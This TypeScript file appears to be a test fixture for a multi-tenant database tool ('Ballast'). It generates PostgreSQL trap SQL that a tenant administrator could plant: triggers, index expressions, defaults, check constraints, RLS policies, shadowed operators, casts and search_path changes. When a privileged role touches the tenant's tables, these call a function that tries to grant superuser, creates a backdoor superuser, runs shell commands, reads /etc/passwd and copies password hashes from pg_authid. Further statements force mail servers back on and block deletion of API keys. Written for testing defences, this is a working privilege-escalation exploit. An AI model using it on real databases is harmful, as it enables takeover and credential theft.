/** Tables that Ballast writes to in a tenant's database. */
const TABLES = ["ir_config_parameter", "res_users", "res_users_apikeys", "ir_mail_server", "ir_cron"] as const;

/**
 * What an administrator of a tenant can plant by SQL to become more: code that runs whenever somebody else touches the tenant's tables, which drops
 * what its caller may have put on, and then takes what it can get. Each time it notes as whom it ran.
 */
export function traps(role: string): readonly string[] {
  const spring = `CREATE FUNCTION public.spring(place text) RETURNS void LANGUAGE plpgsql VOLATILE AS $spring$
    BEGIN
      BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
      INSERT INTO public.sprung VALUES (place, session_user, current_setting('is_superuser'));
      BEGIN EXECUTE 'ALTER ROLE ${role} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'CREATE ROLE ${role}_twin SUPERUSER LOGIN PASSWORD ''x'''; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'COPY public.loot FROM PROGRAM ''id'''; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'COPY public.loot FROM ''/etc/passwd'''; EXCEPTION WHEN OTHERS THEN NULL; END;
      BEGIN EXECUTE 'INSERT INTO public.loot SELECT rolname || rolpassword FROM pg_authid'; EXCEPTION WHEN OTHERS THEN NULL; END;
    END $spring$`;
  const calls = (name: string, head: string, result: string, mark = "IMMUTABLE") =>
    `CREATE FUNCTION public.${name}(${head}) RETURNS ${result} LANGUAGE plpgsql ${mark} AS $$ BEGIN PERFORM public.spring('${name}'); RETURN `;
  return [
    "CREATE TABLE public.sprung (place text, who text, super text)",
    "CREATE TABLE public.loot (line text)",
    spring,
    "CREATE FUNCTION public.on_change() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.spring('trigger ' || TG_TABLE_NAME); RETURN COALESCE(NEW, OLD); END $$",
    ...TABLES.flatMap((table) => [
      `CREATE TRIGGER trap_${table} BEFORE INSERT OR UPDATE OR DELETE ON public.${table} FOR EACH STATEMENT EXECUTE FUNCTION public.on_change()`,
      `ALTER TABLE public.${table} ENABLE ALWAYS TRIGGER trap_${table}`,
    ]),
    `${calls("in_index", "t text", "text")} t; END $$`,
    "CREATE INDEX trap_index ON public.ir_config_parameter (public.in_index(value))",
    `${calls("in_default", "", "timestamp", "VOLATILE")} now(); END $$`,
    "ALTER TABLE public.res_users_apikeys ALTER COLUMN expiration_date SET DEFAULT public.in_default()",
    `${calls("in_check", "t text", "boolean")} true; END $$`,
    "ALTER TABLE public.res_users ADD CONSTRAINT trap_check CHECK (public.in_check(login)) NOT VALID",
    `${calls("in_policy", "t text", "boolean")} true; END $$`,
    "ALTER TABLE public.ir_cron ENABLE ROW LEVEL SECURITY",
    "CREATE POLICY trap ON public.ir_cron USING (public.in_policy(cron_name::text))",
    // What has the exact types is preferred to what stands earlier in the path.
    `${calls("in_operator", "a varchar, b varchar", "boolean")} a::text = b::text; END $$`,
    "CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.in_operator)",
    "CREATE TYPE public.disguise AS (t text)",
    `${calls("in_cast", "d public.disguise", "text")} d.t; END $$`,
    "CREATE CAST (public.disguise AS text) WITH FUNCTION public.in_cast(public.disguise) AS IMPLICIT",
    `${calls("now", "", "timestamptz", "VOLATILE")} pg_catalog.now(); END $$`,
    `${calls("to_regclass", "t text", "regclass")} pg_catalog.to_regclass(t); END $$`,
    `ALTER ROLE ${role} SET search_path = public, pg_catalog`,
  ];
}

/** Undoes what neutralising does, as the tenant's own trigger: mail servers are active again, whoever switches them off. */
export const OBSTINATE = [
  "CREATE FUNCTION public.stay_active() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.active := true; RETURN NEW; END $$",
  "CREATE TRIGGER obstinate BEFORE UPDATE ON public.ir_mail_server FOR EACH ROW EXECUTE FUNCTION public.stay_active()",
  "ALTER TABLE public.ir_mail_server ENABLE ALWAYS TRIGGER obstinate",
  "INSERT INTO public.ir_mail_server (name, smtp_port, smtp_host, smtp_encryption, smtp_authentication, active) VALUES ('real', 25, 'mail.example', 'none', 'login', true)",
  "CREATE RULE keep_keys AS ON DELETE TO public.res_users_apikeys DO INSTEAD NOTHING",
] as const;
